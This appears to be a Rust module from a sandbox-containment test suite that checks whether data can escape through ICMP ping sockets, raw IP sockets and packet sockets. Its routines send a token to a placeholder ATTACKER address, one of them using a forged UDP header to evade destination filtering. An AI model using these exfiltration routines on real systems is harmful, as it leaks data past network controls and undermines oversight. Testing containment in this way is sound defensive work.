//! Sockets that make their own headers or frames.

use std::net::IpAddr;

use super::call::{at, family, link_address, open, send_to};
use super::{Aim, Failure, INET, Layer, Technique, UNSEEN, packet};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, ATTACKER_V6, INSIDE, INSIDE_LINK, OUTSIDE_MAC, PROVIDER};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("icmp", "ping socket, IPv4", "12", INET, |a| ping(a, ATTACKER)),
    Technique::wire("icmp6", "ping socket, IPv6", "12", INET, |a| ping(a, ATTACKER_V6)),
    Technique::wire("raw-ip", "raw socket, header of its own", "11", RAW, raw_ip),
    Technique::wire("packet", "packet socket, frame of its own", "13", UNSEEN, packet_socket)
        .root_may(FRAMES),
];

fn ping(aim: &Aim, ip: IpAddr) -> Result<(), Failure> {
    let (protocol, kind) =
        if ip.is_ipv6() { (libc::IPPROTO_ICMPV6, 128) } else { (libc::IPPROTO_ICMP, 8) };
    let fd = open(family(ip), libc::SOCK_DGRAM, protocol)?;
    let mut echo = vec![kind, 0, 0, 0, 0, 1, 0, 1];
    echo.extend(aim.token.as_bytes());
    send_to(&fd, &echo, 0, ip, 0)
}

fn raw_ip(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    // The header says "attacker" while the socket address says "provider".
    let datagram = packet::udp4(INSIDE, ATTACKER, 443, aim.token.as_bytes());
    send_to(&fd, &datagram, 0, PROVIDER, 0)
}

fn packet_socket(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_PACKET, libc::SOCK_DGRAM, 0)?;
    let index = nix::net::if_::if_nametoindex(INSIDE_LINK)
        .map_err(|e| Failure { at: "if_nametoindex", error: e.into() })?;
    let datagram = packet::udp4(INSIDE, ATTACKER, 443, aim.token.as_bytes());
    let address = link_address(index, packet::ETHERTYPE_IPV4, OUTSIDE_MAC);
    attempt::sendto(&fd, &datagram, 0, Some(&address)).map_err(at("sendto")).map(drop)
}

const RAW: &[Layer] = &[Layer::Seccomp, Layer::Capability, Layer::Cgroup];
const FRAMES: &str = "cgroup programs do not see frames; it needs CAP_NET_RAW, which no role has";
